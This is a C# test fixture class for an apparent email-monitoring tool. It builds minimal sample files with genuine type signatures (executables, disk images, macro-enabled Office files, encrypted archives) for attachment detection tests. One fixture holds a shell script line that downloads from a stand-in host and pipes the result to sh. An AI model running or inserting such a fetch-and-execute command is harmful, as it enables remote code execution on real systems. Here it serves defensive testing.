using System.IO.Compression;
using System.Text;

namespace EmailMonitor.Tests.Analysis;

/// <summary>Small files with the real signatures of their types, made by the tests.</summary>
internal static class SampleFiles
{
    public static byte[] Pdf => Encoding.ASCII.GetBytes("%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\n%%EOF\n");

    public static byte[] WindowsExecutable => Concat("MZ"u8.ToArray(), new byte[58], [0x80, 0, 0, 0], new byte[64], "PE\0\0"u8.ToArray(), new byte[200]);

    public static byte[] LinuxExecutable => Concat([0x7F, (byte)'E', (byte)'L', (byte)'F', 2, 1, 1, 0], new byte[120]);

    public static byte[] MacExecutable => Concat([0xCF, 0xFA, 0xED, 0xFE, 7, 0, 0, 1], new byte[120]);

    public static byte[] ShellScript => Encoding.ASCII.GetBytes("#!/bin/sh\ncurl https://evil.test/x | sh\n");

    public static byte[] Png => Concat([0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A], new byte[64]);

    public static byte[] Jpeg => Concat([0xFF, 0xD8, 0xFF, 0xE0], new byte[64]);

    public static byte[] Text => Encoding.UTF8.GetBytes("Plain notes, nothing more.\n");

    public static byte[] Iso
    {
        get
        {
            var image = new byte[0x8001 + 64];
            Encoding.ASCII.GetBytes("CD001").CopyTo(image, 0x8001);
            return image;
        }
    }

    /// <summary>A FAT disk image's boot sector, as a raw .img file starts.</summary>
    public static byte[] FatImage
    {
        get
        {
            var image = new byte[4096];
            image[0] = 0xEB;
            Encoding.ASCII.GetBytes("MSDOS5.0").CopyTo(image, 3);
            Encoding.ASCII.GetBytes("FAT32   ").CopyTo(image, 82);
            image[510] = 0x55;
            image[511] = 0xAA;
            return image;
        }
    }

    public static byte[] Ole2(bool withVbaProject)
    {
        byte[] signature = [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1];
        var directory = withVbaProject ? Encoding.Unicode.GetBytes("_VBA_PROJECT_CUR") : Encoding.Unicode.GetBytes("WordDocument");
        // The name lands far from the head and straddles MimeKit's 4 KiB write boundary.
        return Concat(signature, new byte[4096 * 3 - 13], directory, new byte[512]);
    }

    public static byte[] Zip(params (string Name, byte[] Content)[] entries)
    {
        using var stream = new MemoryStream();
        using (var archive = new ZipArchive(stream, ZipArchiveMode.Create, leaveOpen: true))
        {
            foreach (var (name, content) in entries)
            {
                using var entry = archive.CreateEntry(name).Open();
                entry.Write(content);
            }
        }

        return stream.ToArray();
    }

    public static byte[] OfficeDocument(string part, bool withVbaProject)
    {
        var entries = new List<(string, byte[])>
        {
            ("[Content_Types].xml", Encoding.UTF8.GetBytes("<?xml version=\"1.0\"?><Types/>")),
            ($"{part}/document.xml", Encoding.UTF8.GetBytes("<document/>")),
        };
        if (withVbaProject)
        {
            entries.Add(($"{part}/vbaProject.bin", Ole2(withVbaProject: true)));
        }

        return Zip([.. entries]);
    }

    /// <summary>A ZIP whose entries carry the "encrypted" flag, as a password-protected archive does.</summary>
    public static byte[] EncryptedZip()
    {
        var zip = Zip(("secret.docx", Pdf));
        for (var i = 0; i + 4 <= zip.Length; i++)
        {
            var signature = BitConverter.ToUInt32(zip, i);
            if (signature == 0x04034B50)
            {
                zip[i + 6] |= 1;
            }
            else if (signature == 0x02014B50)
            {
                zip[i + 8] |= 1;
            }
        }

        return zip;
    }

    /// <summary>A RAR 5 archive that begins with an archive encryption header (type 4).</summary>
    public static byte[] EncryptedRar5() => Concat("Rar!\u001A\u0007\u0001\u0000"u8.ToArray(), [0x11, 0x22, 0x33, 0x44, 0x0C, 0x04, 0x00], new byte[32]);

    public static byte[] Concat(params byte[][] parts) => [.. parts.SelectMany(p => p)];
}
